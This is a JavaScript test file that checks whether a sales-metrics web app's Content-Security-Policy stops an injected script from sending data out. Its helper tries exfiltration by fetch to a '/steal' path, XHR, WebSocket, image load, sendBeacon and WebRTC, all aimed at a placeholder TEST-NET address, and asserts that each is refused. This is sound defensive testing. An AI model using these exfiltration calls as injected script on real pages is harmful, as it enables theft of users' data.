// The privacy boundary as enforced: a script injected into the standalone page (or the
// single file) cannot send data out by fetch, XHR, WebSocket, beacon or image, and has no
// WebRTC to send it by; the server's Content-Security-Policy header reaches the worker's
// script. window.open with data in the URL is not stoppable by a page (README: Privacy).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openBrowser } from './harness.mjs';

const OUT = 'http://203.0.113.9'; // TEST-NET-3: nothing answers there anyway

async function tryToSendOut(page) {
  return page.evaluate(async (out) => {
    const results = {};
    const attempt = async (name, fn) => {
      try {
        await Promise.race([fn(), new Promise((ok, fail) => setTimeout(() => fail(new Error('timeout')), 3000))]);
        results[name] = 'sent';
      } catch {
        results[name] = 'refused';
      }
    };
    await attempt('fetch', () => fetch(`${out}/steal?d=1`));
    await attempt('xhr', () => new Promise((ok, fail) => {
      const x = new XMLHttpRequest();
      x.open('GET', `${out}/x`);
      x.onload = ok;
      x.onerror = fail;
      x.send();
    }));
    await attempt('websocket', () => new Promise((ok, fail) => {
      const w = new WebSocket(`${out.replace('http', 'ws')}/`);
      w.onopen = ok;
      w.onerror = fail;
    }));
    await attempt('image', () => new Promise((ok, fail) => {
      const i = new Image();
      i.onload = ok;
      i.onerror = fail;
      i.src = `${out}/i.png`;
    }));
    try {
      navigator.sendBeacon(`${out}/b`, 'data');
    } catch {
      // refused outright
    }
    await new Promise((ok) => setTimeout(ok, 300));
    results.webrtc = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel'].every((n) => globalThis[n] === undefined)
      ? 'absent' : 'present';
    return { results, violations: window.__cspViolations };
  }, OUT);
}

const REFUSED = { fetch: 'refused', xhr: 'refused', websocket: 'refused', image: 'refused', webrtc: 'absent' };

test('the standalone page: nothing leaves, and the worker script carries the policy', async () => {
  const b = await openBrowser();
  try {
    const { results, violations } = await tryToSendOut(b.page);
    assert.deepEqual(results, REFUSED);
    // the beacon was refused by the policy too, and no request left 127.0.0.1
    assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('/b')), violations.join('\n'));
    assert.deepEqual(b.foreign, []);
    // a worker's policy comes from the response that served its script
    for (const path of ['worker.js', 'index.html']) {
      const res = await fetch(`${b.url}${path}`);
      assert.match(res.headers.get('content-security-policy') ?? '', /connect-src 'self'.*worker-src 'self'.*form-action 'none'/, path);
    }
  } finally {
    await b.close();
  }
});

test('the single file: nothing leaves', async () => {
  const b = await openBrowser({ file: 'dist/sales-metrics-analyzer.html' });
  try {
    const { results } = await tryToSendOut(b.page);
    assert.deepEqual(results, REFUSED);
    assert.deepEqual(b.foreign, []);
  } finally {
    await b.close();
  }
});
